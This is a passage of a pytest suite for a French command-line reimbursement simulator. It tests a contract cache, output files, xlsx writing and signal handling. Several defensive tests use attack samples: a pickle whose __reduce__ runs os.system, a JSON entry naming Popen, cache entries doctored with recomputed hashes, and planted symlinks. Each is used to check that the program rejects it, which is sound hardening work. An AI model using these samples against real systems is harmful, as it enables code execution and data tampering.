        assert r.exit_code == 2 and r.stderr == (f"erreur : --contrats-dossier {dossier} : {quoi} ; indice : donnez le chemin "
                                                 "d'un dossier qui contient les contrats (.yaml) que la colonne contrat nomme\n")


# ------------------------------------------------------------------ the cache of parsed files: data only, ours only, keyed on content



@pytest.fixture
def dossier_cache(tmp_path, monkeypatch):
    from simulateur.parametres import charger_parametres
    charger_parametres()                  # once per process: its entry is not one of these tests' entries
    d = tmp_path / "cache"
    monkeypatch.setenv("SIMULATEUR_CACHE", "1")
    monkeypatch.setenv("SIMULATEUR_CACHE_DOSSIER", str(d))
    from simulateur.contrat import depot
    monkeypatch.setattr(depot, "_CACHE", {})                # the per-process memo: every load goes to the disk cache
    return d


def _contrat_fichier(tmp_path, garantie="100 % BR") -> Path:
    f = tmp_path / "maison.yaml"
    f.write_text(TEMOIN.read_text(encoding="utf-8").replace('''base: "100 % BR"
        option: "+ 100 % BR"''', f'''base: "{garantie}"
        option: "+ 100 % BR"''', 1), encoding="utf-8")
    return f


def _entrees(d: Path):
    return sorted(p for p in d.iterdir() if p.suffix == ".json") if d.exists() else []


def test_cache_json_seulement_dossier_prive(dossier_cache, tmp_path):
    f = _contrat_fichier(tmp_path)
    c1 = charger_contrat(str(f))
    (entree,) = _entrees(dossier_cache)
    assert oct(dossier_cache.stat().st_mode & 0o777) == "0o700" and oct(entree.stat().st_mode & 0o777) == "0o600"
    entete, corps = entree.read_text(encoding="utf-8").split("\n", 1)        # plain JSON data: its key and hash, then the data
    assert json.loads(entete)["cle"] == entree.stem and json.loads(corps)["#c"] == "Contrat"
    from simulateur.contrat import depot
    depot._CACHE.clear()
    c2 = charger_contrat(str(f))                                               # rebuilt from the entry
    assert c2 is not c1 and c2.id == c1.id and [l.libelle for l in c2.lignes] == [l.libelle for l in c1.lignes]


def _entree_piegee(dossier_cache, tmp_path, empreinte=True):
    """A valid entry for the témoin, rewritten to pay 999 % BR (`empreinte`: with the hash of its first line
    recomputed, as someone who can write in the user's cache could): read, it would show in the result."""
    f = _contrat_fichier(tmp_path)
    charger_contrat(str(f))
    (entree,) = _entrees(dossier_cache)
    entete, corps = entree.read_bytes().split(b"\n", 1)
    corps = corps.replace(b'"100 % BR"', b'"999 % BR"').replace(b'"#d":"100"', b'"#d":"999"')
    entree.write_bytes((cache._entete(entree.stem, corps) if empreinte else entete) + b"\n" + corps)
    from simulateur.contrat import depot
    depot._CACHE.clear()
    return f


def _paye_base(f) -> Decimal:
    # témoin, base: « 100 % BR » (SS included) on a DPTM specialist, BR 30, FR 100: SS 21 (70 %) − PF 2 → base 30 − 21 = 9
    a = creer_acte(nature="consultation-specialiste", br="30", frais_reels="100", dptm=True, date="2025-06-01")
    return simuler(charger_contrat(str(f)), "base", a).parts[0].montant


def test_cache_lu_seulement_s_il_est_a_nous(dossier_cache, tmp_path, monkeypatch):
    f = _entree_piegee(dossier_cache, tmp_path)
    assert _paye_base(f) > Decimal("9.00")                 # the doctored entry is read: the test can fail
    from simulateur.contrat import depot
    for geste in ("autre-proprietaire", "groupe", "monde", "lien"):
        depot._CACHE.clear()
        with monkeypatch.context() as m:
            if geste == "autre-proprietaire":
                m.setattr(os, "getuid", lambda: os.stat(dossier_cache).st_uid + 1)
            elif geste in ("groupe", "monde"):
                dossier_cache.chmod(0o770 if geste == "groupe" else 0o707)
            else:
                vrai = tmp_path / "vrai-cache"
                dossier_cache.rename(vrai)
                dossier_cache.symlink_to(vrai)
            assert _paye_base(f) == Decimal("9.00"), geste
        if geste in ("groupe", "monde"):
            dossier_cache.chmod(0o700)
    depot._CACHE.clear()
    (entree,) = _entrees(dossier_cache)
    entree.chmod(0o666)                                    # an entry others can write is not read either
    assert _paye_base(f) == Decimal("9.00")


def test_cache_fichier_plante_jamais_execute(dossier_cache, tmp_path):
    """A pickle planted at the entry's name (which would create a file if unpickled) is ignored: the
    cache reads JSON only, and the contract is parsed again."""
    import pickle
    f = _contrat_fichier(tmp_path)
    charger_contrat(str(f))
    (entree,) = _entrees(dossier_cache)
    temoin = tmp_path / "execute"

    class Piege:
        def __reduce__(self):
            return (os.system, (f"touch {temoin}",))
    entree.write_bytes(pickle.dumps(Piege()))
    from simulateur.contrat import depot
    depot._CACHE.clear()
    assert _paye_base(f) == Decimal("9.00") and not temoin.exists()
    entree.write_text('{"#c": "Contrat", "id": ["pas", "une", "chaîne"]}', encoding="utf-8")
    depot._CACHE.clear()
    assert _paye_base(f) == Decimal("9.00")
    entree.write_text('{"#c": "Popen", "args": "touch x"}', encoding="utf-8")     # a class outside the list: refused
    depot._CACHE.clear()
    assert _paye_base(f) == Decimal("9.00")


def test_cache_lien_plante_jamais_suivi(dossier_cache, tmp_path, monkeypatch):
    """Links planted at the entry's name or at the (here made predictable) temporary name: the victim
    file is never written, the link never read."""
    victime = tmp_path / "victime.txt"
    victime.write_text("intact\n", encoding="utf-8")
    f = _contrat_fichier(tmp_path)
    from simulateur.contrat import depot
    cle = cache.cle("contrat", str(f), f.read_text(encoding="utf-8"))
    dossier_cache.mkdir(mode=0o700)
    (dossier_cache / f"{cle}.json").symlink_to(victime)
    monkeypatch.setattr(os, "getpid", lambda: 4242)
    monkeypatch.setattr(os, "urandom", lambda n: b"\x00" * n)
    (dossier_cache / f".{cle}.4242.00000000.tmp").symlink_to(victime)
    assert _paye_base(f) == Decimal("9.00")
    assert victime.read_text(encoding="utf-8") == "intact\n"
    depot._CACHE.clear()
    monkeypatch.undo()
    monkeypatch.setenv("SIMULATEUR_CACHE", "1")
    monkeypatch.setenv("SIMULATEUR_CACHE_DOSSIER", str(dossier_cache))
    (dossier_cache / f".{cle}.4242.00000000.tmp").unlink()
    assert _paye_base(f) == Decimal("9.00")          # written now: the entry's link is replaced by a file, not followed
    assert victime.read_text(encoding="utf-8") == "intact\n"
    assert not (dossier_cache / f"{cle}.json").is_symlink()


def test_cache_contrat_modifie_taille_et_date_gardees(tmp_path):
    """Two processes with the cache on: the contract edited between them (same size, modification time
    restored with os.utime, as `cp -p`, `rsync -t`, `tar` do) pays the new amount at once.
    Témoin base on a DPTM specialist BR 30, FR 100: « 100 % BR » → 9,00 ; « 200 % BR » → 60 − 21 = 39,00."""
    f = _contrat_fichier(tmp_path, "100 % BR")
    env = {"SIMULATEUR_CACHE": "1", "SIMULATEUR_CACHE_DOSSIER": str(tmp_path / "cache")}
    args = ["simuler", f, "-f", "base", "-n", "consultation-specialiste", "--br", "30", "--frais-reels", "100", "--dptm",
            "--date", "2025-06-01", "--format", "json"]
    r1 = processus(args, env=env)
    st = f.stat()
    f.write_text(f.read_text(encoding="utf-8").replace('base: "100 % BR"', 'base: "200 % BR"', 1), encoding="utf-8")
    os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert f.stat().st_size == st.st_size and f.stat().st_mtime_ns == st.st_mtime_ns
    r2 = processus(args, env=env)
    assert json.loads(r1.stdout)["parts"][0]["montant"] == "9.00"
    assert json.loads(r2.stdout)["parts"][0]["montant"] == "39.00"
    assert len(_entrees(tmp_path / "cache")) >= 2


def test_cache_cle_change_avec_le_code_et_la_version(tmp_path, monkeypatch):
    """The key covers the package's version and the source of the modules that parse: any change of
    either is a new key (an old entry is never read by new code)."""
    import simulateur
    copie = tmp_path / "paquet"
    for nom in cache.CODE:
        (copie / nom).parent.mkdir(parents=True, exist_ok=True)
        (copie / nom).write_bytes((Path(cache.__file__).resolve().parents[1] / nom).read_bytes())
    monkeypatch.setattr(cache, "_ICI", copie)
    monkeypatch.setattr(cache, "_EMPREINTE_CODE", [])
    k1 = cache.cle("contrat", "x.yaml", "contenu")
    monkeypatch.setattr(cache, "_EMPREINTE_CODE", [])
    assert cache.cle("contrat", "x.yaml", "contenu") == k1
    (copie / "contrat" / "expressions.py").write_bytes((copie / "contrat" / "expressions.py").read_bytes() + b"\n# modifie\n")
    monkeypatch.setattr(cache, "_EMPREINTE_CODE", [])
    k2 = cache.cle("contrat", "x.yaml", "contenu")
    monkeypatch.setattr(simulateur, "__version__", "99.0")
    monkeypatch.setattr(cache, "_EMPREINTE_CODE", [])
    k3 = cache.cle("contrat", "x.yaml", "contenu")
    assert len({k1, k2, k3}) == 3
    assert cache.cle("contrat", "x.yaml", "contenu2") != k3


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="/proc absent (pas Linux)")
@pytest.mark.parametrize("args", [["lot", "{gros}", "-c", "cabinets-dentaires", "-f", "option-2", "-s"],
                                  ["comparer", "cabinets-dentaires", "--actes", "{gros}", "--format", "json"]])
def test_sigterm_comme_ctrl_c_sans_fichier_de_sortie(gros_lot, args):
    """SIGTERM to a command writing to stdout: the same « interrompu », exit 130, no traceback."""
    env = {**os.environ, "SIMULATEUR_CACHE": "0"}
    p = subprocess.Popen(PYTHON + [a.replace("{gros}", str(gros_lot)) for a in args], stdout=subprocess.DEVNULL,
                         stderr=subprocess.PIPE, env=env)
    debut = time.monotonic()
    while p.poll() is None and not _sigterm_capte(p.pid) and time.monotonic() - debut < 60:
        time.sleep(0.01)
    time.sleep(0.3)
    p.send_signal(signal.SIGTERM)
    err = p.communicate(timeout=120)[1].decode("utf-8")
    assert p.returncode == 130 and err == "interrompu\n", (p.returncode, err)


def _sigterm_capte(pid: int) -> bool:
    """Whether the process catches SIGTERM (its handler is installed: `SigCgt` of /proc/PID/status, Linux)."""
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as f:
            masque = next(int(l.split()[1], 16) for l in f if l.startswith("SigCgt:"))
    except (OSError, StopIteration, ValueError):
        return False
    return bool(masque & (1 << (signal.SIGTERM - 1)))


def test_erreur_interne_une_ligne_sans_trace(monkeypatch, capsys):
    """A defect of the program (simulated: a renderer raising RuntimeError) reaching the top of the
    process: one French line, exit 2, no traceback; with --debug, the trace."""
    import signal as sig
    from simulateur.cli import catalogue, environnement
    anciens = {s: sig.getsignal(s) for s in (sig.SIGTERM, sig.SIGHUP)}
    monkeypatch.setattr(catalogue, "_natures_json", lambda *a: (_ for _ in ()).throw(RuntimeError("panne \x1b[2J simulée")))
    try:
        monkeypatch.setattr(sys, "argv", ["simulateur", "natures", "--format", "json"])
        with pytest.raises(SystemExit) as fin:
            environnement.lancer(app)
        assert fin.value.code == 2
        err = capsys.readouterr().err
        assert err == ("erreur interne (RuntimeError : panne \ufffd[2J simulée) : c'est un défaut du programme, pas de vos données ; "
                       "relancez avec --debug pour la trace et signalez-la\n")
        monkeypatch.setattr(sys, "argv", ["simulateur", "--debug", "natures", "--format", "json"])
        with pytest.raises(RuntimeError):
            environnement.lancer(app)
    finally:
        from simulateur import cli
        cli._DEBUG["actif"] = False
        for s, h in anciens.items():
            sig.signal(s, h)


# ------------------------------------------------------------------ outputs: never an input, the format their name says

SPECIALISTE = "claire,2025-06-01,consultation-specialiste,31.50,80,oui"   # docs/calcul.md §6: SS 20,05 (70 % × 31,50 − 2)


def _dossier_avec_contrat(tmp_path) -> tuple[Path, Path, Path]:
    """(folder of contracts holding maison.yaml — the témoin —, the file maison.yaml, a batch naming it)."""
    dd = tmp_path / "dd"
    dd.mkdir()
    maison = dd / "maison.yaml"
    maison.write_bytes(TEMOIN.read_bytes())
    f = tmp_path / "actes.csv"
    f.write_text("beneficiaire,date,nature,br,frais_reels,contrat,formule,ss_verse,complementaire_verse\n"
                 "a,2025-01-10,biologie,10,10,maison,base,4,4\n", encoding="utf-8")
    return dd, maison, f


@pytest.mark.parametrize("commande", ["lot", "verifier"])
def test_sortie_vers_un_contrat_du_dossier_refusee(tmp_path, commande):
    """`-o` / `--resume-sortie` naming a contract (.yaml, .yml) of a --contrats-dossier folder — a row's `contrat`
    column reads it — is refused before computing, exit 2, the contract intact: by its name, by `./dd/../dd/`,
    by a link, even with --format (the extension alone would be refused already), .yml too."""
    dd, maison, f = _dossier_avec_contrat(tmp_path)
    avant = maison.read_bytes()
    lien = tmp_path / "lien.csv"
    lien.symlink_to(maison)
    base = [commande, f, "--contrats-dossier", dd, "-s", "--format", "csv"]
    for sortie in (maison, tmp_path / "dd" / ".." / "dd" / "maison.yaml", dd / "neuf.yml", lien):
        r = lancer(base + ["-o", sortie])
        assert r.exit_code == 2, (sortie, r.stderr)
        assert "(--contrats-dossier), qu'une ligne peut lire" in r.stderr or "la sortie est le fichier d'entrée" in r.stderr
    if commande == "lot":
        r = lancer(["lot", f, "--contrats-dossier", dd, "-s", "-o", tmp_path / "r.csv", "--resume", "mois",
                    "--resume-sortie", maison])
        assert r.exit_code == 2 and not (tmp_path / "r.csv").exists()
    assert maison.read_bytes() == avant and not (dd / "neuf.yml").exists()
    r = lancer(base + ["-o", tmp_path / "r.csv"])          # elsewhere: written (témoin, biologie BR = FR = 10: SS 4)
    assert r.exit_code in (0, 1) and (tmp_path / "r.csv").read_text(encoding="utf-8").count("\n") == 2


@pytest.mark.parametrize("commande,sortie,formats", [
    ("lot", "r.pdf", "csv, json, jsonl, xlsx, parquet"), ("lot", "r.yaml", "csv, json, jsonl, xlsx, parquet"),
    ("verifier", "r.xlsx", "csv, json"), ("verifier", "r.pdf", "csv, json")])
def test_extension_de_sortie_inconnue_refusee(tmp_path, commande, sortie, formats):
    """The output's extension chooses its format; one that names no format the command writes (`lot -o r.pdf`,
    `verifier -o r.xlsx`) is refused before computing, exit 2, listing the formats — the file would not hold
    what its name says. With --format, the name is the user's choice: written, in that format."""
    f = RACINE / "exemples" / ("releves-famille-2025.csv" if commande == "verifier" else "famille-2025.csv")
    args = [commande, f, "-c", "cabinets-dentaires", "-f", "option-2", "-s"]
    r = lancer(args + ["-o", tmp_path / sortie])
    assert r.exit_code == 2 and f"non prise en charge (formats écrits : {formats} ;" in r.stderr, r.stderr
    assert not (tmp_path / sortie).exists()
    r = lancer(args + ["-o", tmp_path / sortie, "--format", "csv"])
    assert r.exit_code in (0, 1), r.stderr
    assert (tmp_path / sortie).read_text(encoding="utf-8").lstrip("\ufeff").startswith("beneficiaire")


def test_resume_sortie_extension_inconnue_refusee(tmp_path):
    """`--resume-sortie t.parquet` (or .pdf) used to write CSV under that name: refused, exit 2, nothing computed."""
    for nom in ("t.parquet", "t.pdf"):
        r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-s", "-o", tmp_path / "r.csv",
                    "--resume", "mois", "--resume-sortie", tmp_path / nom])
        assert r.exit_code == 2 and "--resume-sortie" in r.stderr and "formats écrits : csv, json, xlsx" in r.stderr
        assert not (tmp_path / "r.csv").exists() and not (tmp_path / nom).exists()


def test_sortie_tiret_est_la_sortie_standard(tmp_path, monkeypatch):
    """`-o -` is the standard output (as `-` is the standard input), never a file named `-`; `--resume-sortie -`
    too when the results go to a file, refused (exit 2) when they go to the standard output as well.
    Option 2, spécialiste DPTM BR 31,50 FR 80: SS 20,05 (docs/calcul.md §6)."""
    monkeypatch.chdir(tmp_path)
    f = tmp_path / "a.csv"
    f.write_text(f"beneficiaire,date,nature,br,frais_reels,dptm\n{SPECIALISTE}\n", encoding="utf-8")
    args = ["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-s"]
    r = lancer(args + ["-o", "-"])
    assert r.exit_code == 0 and r.stdout.splitlines()[1].startswith(SPECIALISTE + ",20.05,2.00,")
    r = lancer(args + ["-o", "r.csv", "--resume", "mois", "--resume-sortie", "-"])
    assert r.exit_code == 0 and r.stdout.splitlines()[1].startswith("2025-06,1,80.00,20.05,")
    r = lancer(args + ["--resume", "mois", "--resume-sortie", "-"])
    assert r.exit_code == 2 and "la sortie standard reçoit déjà les résultats" in r.stderr
    r = lancer(["verifier", RACINE / "exemples" / "releves-famille-2025.csv", "-c", "cabinets-dentaires", "-f", "option-2",
                "-s", "-o", "-"])
    assert r.exit_code in (0, 1) and r.stdout.lstrip("\ufeff").startswith("beneficiaire;date;nature")      # CSV, as -o F
    assert not (tmp_path / "-").exists()


def _simulateur() -> list[str]:
    return [sys.executable, "-m", "simulateur"]


def test_sortie_vers_dev_stdout_et_un_tube(tmp_path):
    """`-o /dev/stdout` (a pipe) and `-o` a named pipe are written in place — they cannot be renamed over;
    they were « impossible d'écrire (introuvable) » (the resolved name of a pipe is `pipe:[…]`)."""
    f = tmp_path / "a.csv"
    f.write_text(f"beneficiaire,date,nature,br,frais_reels,dptm\n{SPECIALISTE}\n", encoding="utf-8")
    args = _simulateur() + ["lot", str(f), "-c", "cabinets-dentaires", "-f", "option-2", "-s"]
    p = subprocess.run(args + ["-o", "/dev/stdout"], capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    assert p.stdout.splitlines()[1].startswith(SPECIALISTE + ",20.05,2.00,")
    tube = tmp_path / "tube"
    os.mkfifo(tube)
    lecteur = subprocess.Popen(["cat", str(tube)], stdout=subprocess.PIPE, text=True)
    p = subprocess.run(args + ["-o", str(tube)], capture_output=True, text=True, timeout=120)
    lu = lecteur.communicate(timeout=60)[0]
    assert p.returncode == 0, p.stderr
    assert lu.splitlines()[1].startswith(SPECIALISTE + ",20.05,2.00,")


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="pseudo-terminal POSIX")
@pytest.mark.parametrize("format", ["parquet", "xlsx"])
def test_format_binaire_vers_un_terminal_refuse(tmp_path, format):
    """Parquet (binary), like xlsx, is never written to a terminal — standard output or `-o /dev/stdout` —:
    exit 2 and a message; Parquet was written raw to the terminal, exit 0."""
    maitre, esclave = os.openpty()
    try:
        for sortie in ([], ["-o", "/dev/stdout"]):
            p = subprocess.run(_simulateur() + ["lot", str(FAMILLE), "-c", "cabinets-dentaires", "-f", "option-2", "-s",
                                                "--format", format] + sortie,
                               stdout=esclave, stderr=subprocess.PIPE, text=True, timeout=120)
            assert p.returncode == 2 and f"--format {format} : " in p.stderr and "ne s'affiche pas" in p.stderr, p.stderr
    finally:
        os.close(maitre)
        os.close(esclave)


# ------------------------------------------------------------------ xlsx: a cell a sheet cannot hold

def test_xlsx_caractere_de_controle_remplace_et_dit(tmp_path):
    """A control character XML forbids (\\x01, \\x0b, \\x02 in a header) in a cell of an .xlsx output (results or
    --resume-sortie) was « erreur interne » and the whole batch lost: now the cell is written with U+FFFD in
    its place, every row kept with its amounts, and stderr says it once (how many, the first cell) — never
    the raw character. The CSV output keeps the exact value."""
    openpyxl = pytest.importorskip("openpyxl")
    f = tmp_path / "c.csv"
    f.write_bytes(b"beneficiaire,date,nature,br,frais_reels,dptm,no\x02te\n"
                  + f"{SPECIALISTE},a\n".encode() + b"x\x01y,2025-06-01,consultation-specialiste,31.50,80,oui,b\x0bc\n")
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-s", "-o", tmp_path / "r.xlsx",
                "--resume", "beneficiaire", "--resume-sortie", tmp_path / "t.xlsx"])
    assert r.exit_code == 0, r.stderr
    verifier_sortie_cli(r, ["lot"])
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    entete = [c.value for c in ws[1]]
    assert entete[6] == "no\ufffdte"
    assert [ws.cell(i, 1).value for i in (2, 3)] == ["claire", "x\ufffdy"] and ws.cell(3, 7).value == "b\ufffdc"
    # each row: option 2, spécialiste DPTM BR 31,50: SS 70 % × 31,50 − 2 = 20,05 (docs/calcul.md §6)
    assert [ws.cell(i, entete.index("securite_sociale") + 1).value for i in (2, 3)] == [20.05, 20.05]
    assert ("r.xlsx : 3 cellule(s) avec un caractère de contrôle qu'un classeur ne peut pas contenir : chacun remplacé par "
            "« \ufffd » (première : rangée 1 (l'en-tête est la rangée 1), colonne G (no\ufffdte))") in r.stderr
    assert "t.xlsx : 1 cellule(s)" in r.stderr and "rangée 3" in r.stderr
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sorted(c.value for c in ws["A"][1:]) == ["claire", "x\ufffdy"]
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-s"])
    assert "x\x01y,2025-06-01" in r.stdout


def test_xlsx_cellule_trop_longue_coupee_et_dite(tmp_path):
    """A cell of more than 32 767 characters (Excel's limit) was cut silently: still cut (a sheet cannot
    hold more), but said on stderr with the first cell; the amounts are untouched (SS 20,05, §6)."""
    openpyxl = pytest.importorskip("openpyxl")
    f = tmp_path / "l.csv"
    long = "b" * 40_000
    f.write_text(f"beneficiaire,date,nature,br,frais_reels,dptm\n{SPECIALISTE}\n{long},2025-06-01,consultation-specialiste,"
                 "31.50,80,oui\n", encoding="utf-8")
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-s", "-o", tmp_path / "r.xlsx"])
    assert r.exit_code == 0
    assert ("1 cellule(s) de plus de 32 767 caractères (la limite d'Excel) coupée(s) à 32 767 (première : rangée 3 "
            "(l'en-tête est la rangée 1), colonne A (beneficiaire))") in r.stderr
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    assert len(ws.cell(3, 1).value) == 32_767 and ws.cell(3, 7).value == 20.05


def test_resume_sortie_en_echec_laisse_la_sortie_intacte(tmp_path, monkeypatch):
    """Outputs all or nothing: --resume-sortie is written before --sortie is put in place, so that a failure
    there (here a full disk, simulated where the totals are put in their machine form) leaves the previous
    --sortie intact — it was replaced, then the summary failed with exit 2."""
    import simulateur.lot.resume as module_resume
    from simulateur.fichiers.ecriture import SortieInvalide

    def plein(_groupe):
        raise SortieInvalide("t.csv : écriture impossible (disque plein)")
    monkeypatch.setattr(module_resume, "en_machine", plein)
    for nom in ("r.csv", "r.xlsx"):
        if nom.endswith("xlsx"):
            pytest.importorskip("openpyxl")
        sortie = tmp_path / nom
        sortie.write_text("précédent\n", encoding="utf-8")
        r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-s", "-o", sortie, "--resume", "mois",
                    "--resume-sortie", tmp_path / "t.csv"])
        assert r.exit_code == 2 and "disque plein" in r.stderr
        assert sortie.read_text(encoding="utf-8") == "précédent\n"


# ------------------------------------------------------------------ --contrats-dossier: what each name is, said

def test_contrats_dossier_noms_ambigus_speciaux_et_homonymes(tmp_path):
    """In a --contrats-dossier folder: `x.yaml` and `x.yml` both there → the row's error names both (it was one
    taken silently); a folder, a named pipe, a device named `x.yaml` → the row's error says what it is (it was
    « contrat inconnu »); a file named like a shipped contract → the shipped one is used (documented) and
    stderr warns once; an unknown name never suggests a path (a row cannot give one). Both engines."""
    dd = tmp_path / "dd"
    dd.mkdir()
    for nom in ("both.yaml", "both.yml", "cabinets-dentaires.yaml"):
        (dd / nom).write_bytes(TEMOIN.read_bytes())
    (dd / "dossier.yaml").mkdir()
    os.mkfifo(dd / "tube.yaml")
    (dd / "zero.yaml").symlink_to("/dev/zero")
    noms = ("both", "dossier", "tube", "zero", "inconnu", "cabinets-dentaires")
    f = tmp_path / "a.csv"
    f.write_text("beneficiaire,date,nature,br,frais_reels,dptm,contrat,formule\n"
                 + "".join(f"{n},2025-06-01,consultation-specialiste,31.50,80,oui,{n},option-2\n" for n in noms),
                 encoding="utf-8")
    for moteur in ("ligne", "colonnes"):
        r = lancer(["lot", f, "--contrats-dossier", dd, "--format", "csv", "--moteur", moteur])
        assert r.exit_code == 1, r.stderr
        d = {x["beneficiaire"]: x["erreur"] or None for x in csv.DictReader(io.StringIO(r.stdout))}
        assert f"contrat « both » ambigu : {dd.resolve() / 'both.yaml'} et both.yml existent tous les deux" in d["both"]
        assert "est un dossier, pas un fichier de contrat" in d["dossier"]
        assert "est un tube nommé (FIFO), pas un fichier de contrat" in d["tube"]
        assert "est un périphérique, pas un fichier de contrat" in d["zero"]
        assert d["inconnu"].startswith("ligne 6 : contrat inconnu « inconnu » : ni un contrat livré (")
        assert "chemin" not in d["inconnu"] and "ni un fichier inconnu.yaml (ou .yml) du dossier" in d["inconnu"]
        assert d["cabinets-dentaires"] is None           # the shipped contract: option-2 exists there, not in the témoin
        assert r.stderr.count("porte l'identifiant d'un contrat livré") == 1
        assert f"avertissement : {dd / 'cabinets-dentaires.yaml'} porte l'identifiant" in r.stderr


@pytest.mark.parametrize("args, code", [
    (EXEMPLE + ["--format", "json"], 0),
    (["actes", "--format", "csv", "--date", "2025-06-01"], 0),
    (["natures", "zzzz"], 1),
    (["simuler", "cabinets-dentaires", "-f", "option-9", "-n", "biologie", "--br", "1", "--frais-reels", "1"], 2),
])
def test_fin_rapide_meme_sortie_meme_code(args, code):
    """The commands that end without the interpreter's teardown (`environnement.terminer`) write exactly what
    the usual exit writes, with the same exit code; `SIMULATEUR_FIN_COMPLETE=1` is the usual exit."""
    rapide = processus(args)
    complet = processus(args, env={"SIMULATEUR_FIN_COMPLETE": "1"})
    assert (rapide.returncode, complet.returncode) == (code, code)
    assert rapide.stdout == complet.stdout and rapide.stderr == complet.stderr
    if code == 0:
        assert len(rapide.stdout) > 2000      # the whole output (json of the example, the catalogue as CSV)
    if args[:1] == ["simuler"] and code == 0:
        assert json.loads(rapide.stdout)["reste_a_charge"] == "3.25"   # docs/calcul.md §6 worked example


def test_fin_rapide_lecteur_parti_et_disque_plein():
    """A reader that left before the output (the pipe closed at once) still gives 0 and no message; a full
    disk still gives 2 and its message."""
    p = subprocess.Popen(PYTHON + EXEMPLE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         env={**os.environ, "COLUMNS": "100"})
    p.stdout.close()
    assert p.wait(timeout=60) == 0 and b"Traceback" not in p.stderr.read()
    if os.path.exists("/dev/full"):
        with open("/dev/full", "w") as plein:
            r = processus(EXEMPLE, stdout=plein)
        assert r.returncode == 2 and "disque plein" in r.stderr.decode()


def test_sortie_standard_fermee():
    """`simulateur … >&-` (Python sets sys.stdout to None): data to write is a write error — one French message,
    exit 2 — never « erreur interne »."""
    r = processus(EXEMPLE, preexec_fn=lambda: os.close(1))
    assert r.returncode == 2 and "sortie fermée" in r.stderr.decode() and "interne" not in r.stderr.decode()
    r = processus(["--version"], preexec_fn=lambda: os.close(1))
    assert r.returncode == 2 and "interne" not in r.stderr.decode()


def test_cache_entree_abimee_ou_d_une_autre_cle_ignoree(dossier_cache, tmp_path):
    """An entry whose data changed without its hash (a damaged byte), or copied under another key (another
    contract's entry), or holding a non-finite amount, is not used: the file is parsed again. témoin, base
    « 100 % BR » (SS included), DPTM specialist BR 30, FR 100: SS 21 − PF 2 → base 30 − 21 = 9."""
    f = _entree_piegee(dossier_cache, tmp_path, empreinte=False)
    assert _paye_base(f) == Decimal("9.00")
    from simulateur.contrat import depot
    (entree,) = _entrees(dossier_cache)
    autre = dossier_cache / ("0" * 40 + ".json")
    _entree_piegee(dossier_cache, tmp_path)                      # a valid entry (hash recomputed)…
    autre.write_bytes(entree.read_bytes())                       # …copied under another key
    assert cache.lire(dossier_cache, autre.stem) is None and cache.lire(dossier_cache, entree.stem) is not None
    entete, corps = entree.read_bytes().split(b"\n", 1)
    corps = corps.replace(b'"#d":"999"', b'"#d":"NaN"')
    entree.write_bytes(cache._entete(entree.stem, corps) + b"\n" + corps)
    depot._CACHE.clear()
    assert _paye_base(f) == Decimal("9.00")


def test_cache_dossier_tilde_et_relatif(monkeypatch, tmp_path):
    monkeypatch.setenv("SIMULATEUR_CACHE", "1")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("SIMULATEUR_CACHE_DOSSIER", "~/cache-sim")
    assert cache.dossier() == tmp_path / "cache-sim"
    monkeypatch.setenv("SIMULATEUR_CACHE_DOSSIER", "relatif/cache")
    assert cache.dossier() is None                               # never one cache per working folder


def test_chemin_qui_finit_par_une_barre_oblique(tmp_path):
    """« nd/ » names a folder: `contrat nouveau nd/` wrote a file « nd », `valider f.yaml/` read f.yaml (pathlib
    drops the slash). Refused, code 2, nothing written."""
    r = lancer(["contrat", "nouveau", str(tmp_path / "nd") + "/"])
    assert r.exit_code == 2 and "finit par « / » désigne un dossier" in r.stderr and not (tmp_path / "nd").exists()
    f = tmp_path / "f.yaml"
    f.write_text((RACINE / "contrats" / "cabinets-dentaires.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    r = lancer(["valider", str(f) + "/"])
    assert r.exit_code == 2 and "finit par « / » désigne un dossier" in r.stdout + r.stderr
